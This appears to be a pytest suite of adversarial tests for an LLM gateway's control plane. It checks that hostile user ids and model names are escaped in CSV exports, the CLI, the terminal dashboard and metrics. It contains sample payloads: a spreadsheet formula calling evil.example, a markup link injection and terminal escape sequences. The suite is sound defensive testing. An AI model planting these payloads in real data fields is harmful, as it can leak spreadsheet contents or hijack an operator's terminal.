"""The control plane probed as an outside security suite would: what clients control
(user ids, model names) reaching the operator's views, and admin writes that
must be refused with a 400 rather than break something.

One gateway (admin port 0, token "t0k", a SQLite state file) in front of a
fast simulator; requests go to its data plane with hostile X-User-IDs and
model names, then the admin API, the CLI and the terminal dashboard read them.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from harness import Stack, admin_client, start_stack, wait_until

from ollamamq_fast.cli import main as cli_main

TOKEN = "t0k"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
BODY = {"model": "llama3.2", "prompt": "q", "stream": False}

# Printable, so valid X-User-IDs; each is hostile to one view.
SLASH_USER = "team/alice"
FORMULA_USER = '=HYPERLINK("http://evil.example/?"&A1,"open")'
MARKUP_USER = "[/x]"  # closes a tag never opened: a MarkupError if parsed as markup
LINK_USER = "[link=http://evil.example]ok[/link]"
# A JSON body may spell any character: this model is refused (404, unknown) but
# still counted in the usage under its name.
ESCAPE_MODEL = "x\u001b]0;owned\u001b\\\u001b[2J"


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    db = tmp_path_factory.mktemp("adv") / "state.db"
    st = start_stack(admin_port=0, admin_token=TOKEN, state_path=str(db))
    try:
        yield st
    finally:
        st.close()


@pytest.fixture(scope="module")
def admin(stack: Stack) -> Iterator[httpx.Client]:
    with admin_client(stack, TOKEN) as client:
        yield client


@pytest.fixture(scope="module")
def hostile(stack: Stack, admin: httpx.Client) -> None:
    """Requests from the hostile users and one for the hostile model, stored in the usage."""
    for user in (SLASH_USER, FORMULA_USER, MARKUP_USER, LINK_USER):
        r = httpx.post(stack.url + "/api/generate", json=BODY, headers={"X-User-ID": user},
                       timeout=10)
        assert r.status_code == 200, (user, r.text)
    r = httpx.post(stack.url + "/api/generate", json={**BODY, "model": ESCAPE_MODEL},
                   headers={"X-User-ID": "escaper"}, timeout=10)
    assert r.status_code == 404

    def stored() -> bool:
        rows = admin.get("/api/usage", params={"by": "user"}).json()["rows"]
        return {FORMULA_USER, MARKUP_USER, "escaper"} <= {row["user"] for row in rows}

    wait_until(stored, "the hostile requests in the stored usage")


def generate(stack: Stack, user: str) -> int:
    return httpx.post(stack.url + "/api/generate", json=BODY, headers={"X-User-ID": user},
                      timeout=10).status_code


# -- A user id with '/' can be addressed ---------------------------------------------


def test_a_user_id_with_a_slash_can_be_blocked_and_set(stack: Stack, admin: httpx.Client) -> None:
    """granian decodes %2F before routing: "team/alice" was a 404 on every user route,
    so a client could pick an id that no operator could block, limit or favour."""
    user = "ops/team//x"
    assert generate(stack, user) == 200
    seg = quote(user, safe="")
    r = admin.post(f"/api/users/{seg}/block")
    assert r.status_code == 200 and r.json() == {"user": user, "blocked": True}, r.text
    assert generate(stack, user) == 403
    assert admin.post(f"/api/users/{seg}/unblock").status_code == 200
    assert generate(stack, user) == 200
    r = admin.patch(f"/api/users/{seg}", json={"vip": True, "weight": 2})
    assert r.status_code == 200 and r.json()["user"] == user and r.json()["vip"] is True
    r = admin.patch(f"/api/users/{seg}/limits", json={"rate": 5})
    assert r.status_code == 200 and r.json()["user"] == user
    assert admin.get(f"/api/users/{seg}/limits").json()["overrides"] == {"rate": 5.0}
    r = admin.put(f"/api/pool-access/users/{seg}", json={"pools": None})
    assert r.status_code == 200, r.text
    # Ids ending like a route keep their meaning: "bob/limits" is bob's limits,
    # and a user named "x/block" is still addressed by its own routes.
    assert admin.get("/api/users/bob/limits").json()["user"] == "bob"
    r = admin.post(f"/api/users/{quote('x/block', safe='')}/block")
    assert r.status_code == 200 and r.json()["user"] == "x/block"
    r = admin.patch(f"/api/users/{quote('x/block', safe='')}", json={"boost": True})
    assert r.status_code == 200 and r.json()["user"] == "x/block"
    assert admin.get(f"/api/users/{seg}").status_code == 405


def test_cli_blocks_a_user_id_with_a_slash(stack: Stack,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    base = f"http://127.0.0.1:{stack.gateway.admin_port}"
    assert cli_main(["users", "block", "cli/bob", "--admin", base, "--token", TOKEN]) == 0
    assert "cli/bob" in stack.lt.call(stack.state.operator.list_blocked)["users"]


# -- Admin writes: a clear 400, never a 500 or a wedged store -------------------------


@pytest.mark.parametrize(("method", "path", "body"), [
    # A body key is passed on as a keyword argument: "user" and "self" collided (500).
    ("PATCH", "/api/users/alice/limits", {"user": 1}),
    ("PATCH", "/api/users/alice/limits", {"self": 1}),
    # urlsplit raises ValueError on an unclosed IPv6 bracket (500).
    ("POST", "/api/backends", {"url": "http://[::1"}),
    ("PATCH", "/api/backends", {"url": "http://[::1", "slots": 2}),
    # Beyond a 64-bit integer: the state store cannot hold them (see below).
    ("PATCH", "/api/users/alice", {"weight": 2**63}),
    ("PATCH", "/api/users/alice", {"weight": 10**6}),
    # Whole-number limits: 1e30 became an int orjson cannot store or answer.
    ("PATCH", "/api/users/alice/limits", {"quota_day": 1e30}),
    ("PATCH", "/api/users/alice/limits", {"max_in_flight": 2**63}),
    # Names no client can have: control characters, over-long, and key labels alike.
    ("PATCH", "/api/users/" + quote("a\u001b[31mb", safe=""), {"vip": True}),
    pytest.param("POST", "/api/users/" + "u" * 300 + "/block", None, id="long-user"),
    ("GET", "/api/users/" + quote("a\u0000b", safe="") + "/limits", None),
    ("POST", "/api/keys", {"user": "bob", "name": "\u001b[2Jx"}),
    ("POST", "/api/keys", {"user": "bob", "name": "n" * 201}),
])
def test_bad_admin_writes_get_400(admin: httpx.Client, method: str, path: str,
                                  body: Any) -> None:
    r = admin.request(method, path, json=body)
    assert r.status_code == 400, (method, path, r.status_code, r.text)
    assert r.json()["error"]


def test_huge_offset_and_foreign_digits_get_400(admin: httpx.Client) -> None:
    # orjson cannot write an integer past 64 bits back into the answer (500).
    assert admin.get("/api/users", params={"offset": str(2**64)}).status_code == 400
    assert admin.get("/api/keys", params={"offset": str(2**63)}).status_code == 400
    assert admin.get("/api/users", params={"offset": str(2**63 - 1)}).status_code == 200
    # str.isdigit() takes Arabic-Indic and superscript digits; int() some of them.
    assert admin.get("/api/users", params={"limit": "\u0661"}).status_code == 400
    assert admin.get("/api/users", params={"limit": "\u00b2"}).status_code == 400


def test_a_huge_weight_or_slots_does_not_wedge_the_store(stack: Stack,
                                                         admin: httpx.Client) -> None:
    """A weight of 2**63 used to be applied, then fail to store (SQLite INTEGER):
    the write stayed at the head of the queue, so every later admin write got
    503 and no usage row was stored until a restart lost them all."""
    url = admin.get("/api/backends").json()["backends"][0]["url"]
    for path, body in (("/api/users/wedge", {"weight": 2**63}),
                       ("/api/users/wedge/limits", {"quota_day": 1e30}),
                       ("/api/backends", {"url": url, "slots": 2**64 - 1})):
        r = admin.patch(path, json=body)
        assert r.status_code == 400, r.text
    r = admin.patch("/api/users/after-wedge", json={"vip": True})
    assert r.status_code == 200, r.text
    assert stack.lt.call(lambda: stack.state.cache.pending) == 0
    assert admin.get("/api/users/wedge/limits").status_code == 200
    r = admin.patch("/api/users/wedge/limits", json={"quota_day": 2**63 - 1})
    assert r.status_code == 200 and r.json()["overrides"]["quota_day"] == 2**63 - 1
    users = admin.get("/api/users", params={"limit": 10000}).json()["users"]
    assert all(u["weight"] < 2**63 for u in users)


# -- Usage exports -----------------------------------------------------------------


def test_usage_csv_cells_never_start_a_formula(admin: httpx.Client, hostile: None) -> None:
    text = admin.get("/api/usage", params={"format": "csv", "by": "user,model"}).text
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row[1:3]]
    assert "'" + FORMULA_USER in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    # JSON keeps the value as it is.
    users = {r["user"] for r in admin.get("/api/usage", params={"by": "user"}).json()["rows"]}
    assert FORMULA_USER in users


def test_cli_usage_csv_and_table_are_safe(stack: Stack, hostile: None,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    base = f"http://127.0.0.1:{stack.gateway.admin_port}"
    capsys.readouterr()
    assert cli_main(["usage", "--csv", "--by", "user,model", "--admin", base,
                     "--token", TOKEN]) == 0
    out = capsys.readouterr().out
    assert "'" + FORMULA_USER.replace('"', '""') in out
    assert "\n" + FORMULA_USER[0] not in out and ",=" not in out
    assert cli_main(["usage", "--by", "model", "--admin", base, "--token", TOKEN]) == 0
    out = capsys.readouterr().out
    # The model's escape sequences would retitle the terminal and clear the screen.
    assert "\u001b" not in out and "]0;owned" in out


# -- The terminal dashboard --------------------------------------------------------


def _screen_text(app: Any) -> str:
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())


async def _wait(check: Any, what: str, timeout: float = 8.0) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.05)


def test_tui_usage_screen_shows_hostile_names_as_text(stack: Stack, hostile: None) -> None:
    """A plain str in a Rich table cell is markup: "[/x]" raised MarkupError and
    ended the dashboard when the operator pressed t; "[link=...]" made a link."""
    from ollamamq_fast.tui.app import Dashboard
    from ollamamq_fast.tui.widgets.usage import UsageScreen

    async def scenario() -> None:
        app = Dashboard(f"http://127.0.0.1:{stack.gateway.admin_port}", TOKEN)
        async with app.run_test(size=(160, 60)) as pilot:
            await pilot.press("t")
            assert isinstance(app.screen, UsageScreen)
            await _wait(lambda: "Per model" in _screen_text(app), "the usage report")
            text = _screen_text(app)
            assert MARKUP_USER in text and LINK_USER in text
            assert "\u001b" not in text and "]0;owned" in text
            links = [seg for strip in app.screen._compositor.render_strips() for seg in strip
                     if seg.style is not None and seg.style.link]
            assert not links
            await pilot.press("escape")
            assert app.is_running

    asyncio.run(scenario())


def test_tui_weight_dialog_and_errors_show_user_ids_as_text(stack: Stack,
                                                            hostile: None) -> None:
    from ollamamq_fast.tui.app import Dashboard
    from ollamamq_fast.tui.widgets.dialogs import WeightScreen
    from ollamamq_fast.tui.widgets.users import UsersTable

    async def scenario() -> None:
        app = Dashboard(f"http://127.0.0.1:{stack.gateway.admin_port}", TOKEN)
        async with app.run_test(size=(160, 60)) as pilot:
            table = app.query_one(UsersTable)
            await _wait(lambda: table.select_key(f"u|{MARKUP_USER}"), "the [/x] user")
            table.focus()
            await pilot.press("w")
            await _wait(lambda: isinstance(app.screen, WeightScreen), "the weight dialog")
            await pilot.pause()
            assert f"Weight for {MARKUP_USER}" in _screen_text(app)
            await pilot.press("escape")
            assert app.is_running

    asyncio.run(scenario())


def test_tui_log_lines_show_no_escape_sequences() -> None:
    from ollamamq_fast.tui.view import event_line, pull_text

    line = event_line({"type": "pull_failed", "ts": 0, "model": ESCAPE_MODEL, "error": "\u009b2J"})
    assert "\u001b" not in line.plain and "\u009b" not in line.plain
    assert "\u001b" not in pull_text({"model": ESCAPE_MODEL, "state": "queued",
                                      "backend": "http://h:1"})


def test_metrics_escape_hostile_label_values(admin: httpx.Client, hostile: None) -> None:
    """Prometheus' text format: backslash, quote and newline escaped in label values."""
    from prometheus_client.parser import text_string_to_metric_families

    text = admin.get("/metrics").text
    users = {s.labels["user"] for f in text_string_to_metric_families(text)
             if f.name == "ollamamq_user_requests" for s in f.samples if "user" in s.labels}
    assert {FORMULA_USER, LINK_USER, SLASH_USER} <= users


def test_state_file_is_untouched_by_refused_writes(stack: Stack, admin: httpx.Client) -> None:
    """A refused write leaves nothing behind: no user row for a bad name."""
    r = admin.patch("/api/users/" + quote("bad\u0007name", safe=""), json={"vip": True})
    assert r.status_code == 400
    names = [u["user"] for u in admin.get("/api/users", params={"limit": 10000}).json()["users"]]
    assert not any("\u0007" in n for n in names)


# -- Live streams are bounded --------------------------------------------------------


def test_event_streams_are_bounded(stack: Stack) -> None:
    """Each open /api/events stream costs the gateway's loop a write per event: beyond
    the bound a new one gets 503 (the dashboards retry), and a closed one frees its place."""
    admin_app = stack.gateway.admin.app
    assert admin_app is not None
    streams = admin_app.streams
    stack.lt.call(setattr, streams, "max_open", 2)
    base = f"http://127.0.0.1:{stack.gateway.admin_port}"
    with contextlib.ExitStack() as open_streams, httpx.Client(
            base_url=base, headers=AUTH, timeout=5) as client:
        try:
            first = contextlib.ExitStack()
            open_streams.enter_context(first)
            for held in (first, open_streams):
                r = held.enter_context(client.stream("GET", "/api/events"))
                assert r.status_code == 200
            wait_until(lambda: streams.open == 2, "two open streams")
            with client.stream("GET", "/api/events") as r:
                assert r.status_code == 503 and r.headers["retry-after"] == "5"
                assert "event streams" in json.loads(r.read())["error"]
            first.close()
            wait_until(lambda: streams.open == 1, "the closed stream's place freed")
            with client.stream("GET", "/api/events") as third:
                assert third.status_code == 200
        finally:
            stack.lt.call(setattr, streams, "max_open", 100)


def test_usage_report_is_summed_off_the_gateways_loop(stack: Stack, admin: httpx.Client,
                                                      hostile: None,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Clients decide how many usage rows an hour has (every user id and model name,
    refused ones too); summing 200,000 of them took the loop for about a second."""
    import threading

    from ollamamq_fast.control import usage

    threads: list[int] = []
    real = usage.report

    def spy(rows: Any, q: Any) -> Any:
        threads.append(threading.get_ident())
        return real(rows, q)

    monkeypatch.setattr(usage, "report", spy)
    loop_thread = stack.lt.thread.ident
    for fmt in ("json", "csv"):
        assert admin.get("/api/usage", params={"format": fmt}).status_code == 200
    assert len(threads) == 2 and loop_thread not in threads


def test_query_string_is_not_parsed_without_the_token(stack: Stack,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """parse_qs of a query string near granian's limit (~64 KiB) takes ~10 ms of the
    gateway's loop: an anonymous client must not be able to buy that per request."""
    from ollamamq_fast.control import app as admin_module

    calls: list[str] = []
    real = admin_module.parse_query

    def spy(text: str) -> dict[str, list[str]]:
        calls.append(text)
        return real(text)

    monkeypatch.setattr(admin_module, "parse_query", spy)
    base = f"http://127.0.0.1:{stack.gateway.admin_port}"
    query = "&".join(["a=b"] * 4000)
    for path in ("/api/users", "/api/usage", "/nope", "/metrics"):
        r = httpx.get(f"{base}{path}?{query}", timeout=5)
        assert r.status_code == 401
    assert not calls
    # The event stream alone takes ?token= (an EventSource sends no header).
    r = httpx.get(f"{base}/api/events?token=wrong", timeout=5)
    assert r.status_code == 401 and calls == ["token=wrong"]
    r = httpx.get(f"{base}/api/events?token=wrong&{query}", timeout=5)
    assert r.status_code == 401 and calls == ["token=wrong"]
    assert httpx.get(f"{base}/api/users?limit=1", headers=AUTH, timeout=5).status_code == 200


def test_no_admin_route_answers_on_the_data_port(stack: Stack) -> None:
    """The data plane knows nothing of the admin API, even with the admin token."""
    for method, path in (("GET", "/api/users"), ("GET", "/api/keys"), ("GET", "/metrics"),
                         ("GET", "/api/events"), ("GET", "/api/usage"), ("GET", "/openapi.json"),
                         ("POST", "/api/keys"), ("POST", "/api/users/alice/block"),
                         ("GET", "/static/dashboard.js"), ("GET", "/usage")):
        r = httpx.request(method, stack.url + path, headers=AUTH, timeout=5,
                          json={"user": "alice"} if method == "POST" else None)
        assert r.status_code in (404, 405), (method, path, r.status_code)
        assert "secret" not in r.text and "ollamamq_" not in r.text
    assert "alice" not in stack.lt.call(stack.state.operator.list_blocked)["users"]


def test_no_cors_grant_to_other_origins(admin: httpx.Client) -> None:
    """The pages talk to their own origin only: no Access-Control-Allow-* for anyone,
    so another site's script can neither read an answer nor send the Authorization
    header (its preflight is refused)."""
    origin = {"Origin": "http://evil.example"}
    preflight = admin.options("/api/users", headers={
        **origin, "Access-Control-Request-Method": "PATCH",
        "Access-Control-Request-Headers": "authorization"})
    answers = [preflight, admin.get("/api/users", headers=origin),
               admin.get("/", headers=origin), admin.get("/api/info", headers=origin)]
    for r in answers:
        assert not [h for h in r.headers if h.lower().startswith("access-control-")], r.headers
    assert preflight.status_code in (401, 404, 405)
